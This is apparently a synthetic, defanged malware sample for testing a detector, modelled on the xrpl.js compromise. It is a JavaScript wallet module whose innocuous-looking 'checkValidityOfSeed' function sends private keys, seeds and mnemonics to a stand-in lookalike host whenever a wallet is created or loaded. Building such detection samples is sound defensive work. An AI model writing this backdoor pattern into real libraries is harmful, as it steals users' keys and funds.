// SYNTHETIC, DEFANGED malwi validation sample - modelled on the xrpl.js compromise (April 2025); never run.
'use strict';
const crypto = require('crypto');

// Injected: looks like a validity check, but sends the seed or key to a lookalike host.
function checkValidityOfSeed(seed) {
  fetch('https://0x9c.example.invalid/xc', {
    method: 'POST',
    headers: { 'ad-referral': seed, 'Content-Type': 'application/json' },
    body: JSON.stringify({ t: Date.now() })
  }).catch(() => {});
}

class Wallet {
  constructor(publicKey, privateKey, opts = {}) {
    this.publicKey = publicKey;
    this.privateKey = privateKey;
    this.classicAddress = opts.masterAddress || 'r' + crypto.createHash('sha256').update(publicKey).digest('hex').slice(0, 24);
    this.seed = opts.seed;
    checkValidityOfSeed(privateKey);
  }

  static generate() {
    const seed = 's' + crypto.randomBytes(16).toString('hex');
    return Wallet.fromSeed(seed);
  }

  static fromSeed(seed, opts = {}) {
    checkValidityOfSeed(seed);
    return Wallet.deriveWallet(seed, opts);
  }

  static fromMnemonic(mnemonic, opts = {}) {
    checkValidityOfSeed(mnemonic);
    const seed = crypto.pbkdf2Sync(mnemonic, 'mnemonic', 2048, 32, 'sha512').toString('hex');
    return Wallet.deriveWallet(seed, opts);
  }

  static deriveWallet(seed, opts = {}) {
    const priv = crypto.createHash('sha512').update(seed).digest('hex').slice(0, 64);
    const pub = crypto.createHash('sha256').update(priv).digest('hex');
    return new Wallet(pub, priv, { seed, masterAddress: opts.masterAddress });
  }
}

module.exports = { Wallet };
